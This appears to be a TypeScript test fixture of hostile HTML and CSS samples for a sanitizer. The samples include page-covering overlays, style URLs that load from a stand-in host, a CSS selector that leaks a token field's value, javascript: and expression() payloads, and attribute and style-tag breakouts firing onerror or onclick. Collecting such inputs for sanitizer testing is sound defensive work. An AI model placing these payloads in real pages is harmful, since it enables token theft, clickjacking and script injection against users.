/** Hostile HTML that works through styles: covering the page, reading it, loading from outside. */
import type { HostileHtml } from './hostileHtml';

const EVIL = 'https://evil.invalid/p.gif';

/** Inline styles that must not take effect. */
const DECLARATIONS: Record<string, string> = {
  'a cover over the page': 'position:fixed;inset:0;z-index:2147483647;background:#fff',
  'a cover by transform': 'transform:scale(1000);transform-origin:0 0',
  'a cover by shadow': 'box-shadow:0 0 0 9999px #fff',
  'a cover by outline': 'outline:9999px solid #fff',
  'a cover by margins': 'margin:-9999px;padding:9999px;position:relative',
  'an invisible link': 'opacity:0;position:absolute;inset:0',
  'a picture from outside': `background:url(${EVIL})`,
  'a picture from outside in quotes': `background-image:url(&quot;${EVIL}&quot;)`,
  'a picture from outside, escaped': 'background:\\75\\72\\6c(https://evil.invalid/p.gif)',
  'a picture from outside by a set': `background:image-set(&quot;${EVIL}&quot; 1x)`,
  'a list mark from outside': `list-style:url(${EVIL})`,
  'a pointer from outside': `cursor:url(${EVIL}),auto`,
  'a border from outside': `border-image:url(${EVIL}) 1`,
  'a mask from outside': `mask:url(${EVIL})`,
  'a filter from outside': `filter:url(${EVIL}#f)`,
  'content from outside': `content:url(${EVIL})`,
  'a shape from outside': `shape-outside:url(${EVIL})`,
  'script in a picture': 'background:url(javascript:alert(1))',
  'an expression': 'width:expression(alert(1))',
  'an expression with a comment': 'width:ex/**/pression(alert(1))',
  'a binding': '-moz-binding:url(https://evil.invalid/x.xml#x)',
  'a behaviour': 'behavior:url(https://evil.invalid/x.htc)',
  'a variable of ours': '--color-text:transparent;--space-4:9999px',
  'all at once': 'all:initial;display:block;position:fixed;inset:0',
  'an end of the attribute': 'color:red&quot; onclick=&quot;alert(1)',
};

const OTHERS: Record<string, string> = {
  'a style sheet': '<style>*{display:none!important}</style><p>x</p>',
  'a style sheet that imports': '<style>@import "https://evil.invalid/x.css";</style>',
  'a style sheet that reads a field': `<style>input[name=token][value^=a]{background:url(${EVIL})}</style>`,
  'a style sheet that reads text': `<style>@font-face{font-family:x;src:url(${EVIL});unicode-range:U+61}body{font-family:x}</style>`,
  'a style sheet that ends early': '<style></style><img src=x onerror=alert(1)></style>',
  'a style sheet in a drawing':
    '<svg><style>*{fill:url(https://evil.invalid/x.svg#x)}</style></svg>',
  'a style sheet in a formula': '<math><style><img src=x onerror=alert(1)></style></math>',
  'a scope of styles': '<style scoped>@scope(body){*{color:red}}</style>',
  'a layer of styles': '<style>@layer reset{body{visibility:hidden}}</style>',
  'a formula that covers the page':
    '<span class="katex"><span class="katex-html" aria-hidden="true"><span class="base" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red"><span class="mord">x</span></span></span></span>',
  'a formula of endless height':
    '<span class="katex"><span class="katex-html" aria-hidden="true"><span class="strut" style="height:99999999em;vertical-align:-1e9em;"></span></span></span>',
  'a formula with a picture': `<span class="katex"><span class="katex-html"><span class="mord" style="color:red;background:url(${EVIL})">x</span></span></span>`,
  'a formula with classes of the page':
    '<span class="katex"><span class="katex-html"><span class="mord modal overlay sr-only">x</span></span></span>',
  'a table that covers the page':
    '<table><tbody><tr><td style="text-align:center;position:fixed;inset:0">x</td></tr></tbody></table>',
  'a page preview with two pictures': `<div class="message_embed"><a class="message_embed_image" href="https://a.example/" style="background-image:url(&quot;/external_content/a/b&quot;),url(${EVIL})"></a></div>`,
  'a class of the app':
    '<div class="app-shell sidebar is-open"><p class="visually-hidden">x</p></div>',
  'old colours':
    '<font color="#fff" size="+99" face="x">x</font><body bgcolor="#000" background="https://evil.invalid/p.gif">',
  'a huge table':
    '<table width="99999" height="99999" border="999"><tr><td colspan="99999" rowspan="99999">x</td></tr></table>',
};

/** All of them. */
export const hostileStyles: HostileHtml[] = [
  ...Object.entries(DECLARATIONS).map(([name, style]) => ({
    name: `styles with ${name}`,
    html: `<p style="${style}">fair winds</p>`,
  })),
  ...Object.entries(OTHERS).map(([name, html]) => ({ name, html })),
];
